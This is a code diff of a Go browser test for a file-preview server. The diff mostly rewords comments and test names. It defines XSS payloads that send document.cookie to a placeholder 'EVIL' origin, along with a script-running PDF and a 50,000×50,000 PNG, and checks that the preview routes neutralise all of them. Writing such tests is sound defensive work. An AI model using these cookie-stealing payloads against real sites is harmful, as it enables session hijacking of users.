@@ -14,8 +14,8 @@ import (
 	"testing"
 )
 
-// Hostile contents try to run, to leave and to read the cookie. EVIL is another
-// origin, OWN a path of the server's own.
+// Hostile contents try to run scripts, to open other pages and to read the cookie. EVIL is
+// another origin, OWN a path on the server's origin.
 const (
 	hostileScript = `document.title='ran';alert(1);new Image().src='EVIL/image?'+document.cookie;fetch('OWN/fetch?'+document.cookie);` +
 		`navigator.sendBeacon('EVIL/beacon',document.cookie);window.open('EVIL/open');location='EVIL/location?'+document.cookie`
@@ -35,7 +35,7 @@ const (
 		`<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>` + hostileScript + `</h:script><h:iframe src="EVIL/frame"/>&e;</x>`
 )
 
-// hostilePDF runs a script, opens a link and sends a form as soon as it is
+// hostilePDF returns a PDF that runs a script, opens a link and submits a form when it is
 // opened.
 func hostilePDF(t *testing.T) string {
 	t.Helper()
@@ -65,7 +65,7 @@ func hostilePDF(t *testing.T) string {
 	return b.String()
 }
 
-// vast is a PNG that declares 50,000 × 50,000 pixels.
+// hugePNG returns a PNG that declares 50,000 × 50,000 pixels.
 func hugePNG() string {
 	header := append([]byte("IHDR\x00\x00\xc3\x50\x00\x00\xc3\x50"), 8, 6, 0, 0, 0)
 	file := append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d"), header...)
@@ -73,7 +73,7 @@ func hugePNG() string {
 	return string(append(file, "\x00\x00\x00\x00IEND\xae\x42\x60\x82"...))
 }
 
-// flicker is a GIF of so many frames.
+// animatedGIF returns a GIF with a number of frames.
 func animatedGIF(t *testing.T, frames, width, height int) string {
 	t.Helper()
 	all := &gif.GIF{}
@@ -88,7 +88,7 @@ func animatedGIF(t *testing.T, frames, width, height int) string {
 	return b.String()
 }
 
-// picture is a gradient.
+// gradientPNG returns a PNG with a gradient.
 func gradientPNG(t *testing.T, w, h int) string {
 	t.Helper()
 	im := image.NewRGBA(image.Rect(0, 0, w, h))
@@ -102,8 +102,8 @@ func gradientPNG(t *testing.T, w, h int) string {
 	return b.String()
 }
 
-// TestPRV05InABrowser opens everything hostile on every route in Chromium:
-// nothing runs, nothing is asked for, no cookie is read.
+// TestHostileContentPRV05 opens every hostile content on every route in Chromium. No script
+// runs, nothing is requested and no cookie is read.
 func TestHostileContentPRV05(t *testing.T) {
 	t.Parallel()
 	if testing.Short() {
@@ -136,25 +136,25 @@ func TestHostileContentPRV05(t *testing.T) {
 		}
 	}
 	slices.SortFunc(visits, func(a, b visit) int { return strings.Compare(a.Name, b.Name) })
-	visits = append(visits, visit{Name: "control", Path: "/bare/"}) // last: what it starts may come late
+	visits = append(visits, visit{Name: "control", Path: "/bare/"}) // last, because its requests may arrive late
 	b.visit(t, visits, func(v visit, s observation) {
-		if v.Name == "control" { // else nothing could be found
+		if v.Name == "control" { // without protection the attack must be noticed
 			if len(s.evil) == 0 || len(s.own) == 0 || s.Dialogs == 0 || !strings.Contains(strings.Join(s.own, " "), session) {
-				t.Errorf("without protection nothing happened: %+v, %v, %v", s, s.evil, s.own)
+				t.Errorf("the attack is not noticed without protection: %+v, %v, %v", s, s.evil, s.own)
 			}
 			return
 		}
 		if strings.HasPrefix(v.Name, "pdf ") {
-			// The viewer has an engine of its own for scripts of documents, under
-			// no policy of a server: a dialog is all that gets out of it.
+			// The PDF viewer runs scripts of documents in an engine of its own, which
+			// no policy of the server affects. All they can do is open a dialog.
 			s.Dialogs = max(0, s.Dialogs-1)
 		}
 		if s.Error != "" || len(s.evil)+len(s.own)+s.Dialogs+s.Popups > 0 {
-			t.Errorf("%s: %+v; the other origin saw %q, ours %q", v.Name, s, s.evil, s.own)
+			t.Errorf("%s: %+v; the other origin received %q, ours %q", v.Name, s, s.evil, s.own)
 		}
 		for _, request := range s.Requests {
 			if !strings.HasPrefix(request, "chrome") && !strings.HasPrefix(request, "blob:chrome-extension:") && request != b.server.URL+v.Path {
-				t.Errorf("%s: asked for %s", v.Name, request)
+				t.Errorf("%s: requested %s", v.Name, request)
 			}
 		}
 		if want := strings.HasPrefix(v.Name, "vast-scaled") && !strings.HasSuffix(v.Name, "content"); want != (s.Status == 415) || !s.Download && s.Status != 200 && !want {
@@ -163,8 +163,8 @@ func TestHostileContentPRV05(t *testing.T) {
 	})
 }
 
-// TestPRV07InABrowser: who follows a link on a preview tells nobody where it
-// was.
+// TestLinksSendNoRefererPRV07: following a link on a preview does not send the preview's
+// address.
 func TestLinksSendNoRefererPRV07(t *testing.T) {
 	t.Parallel()
 	if testing.Short() {
@@ -182,7 +182,7 @@ func TestLinksSendNoRefererPRV07(t *testing.T) {
 	}
 	b.visit(t, visits, func(v visit, s observation) {
 		if want := []string{`GET /followed from ""`}; !slices.Equal(s.evil, want) || s.Error != "" {
-			t.Errorf("%s: the link's target saw %q, want %q; %+v", v.Name, s.evil, want, s)
+			t.Errorf("%s: the link's target received %q, want %q; %+v", v.Name, s.evil, want, s)
 		}
 	})
 }
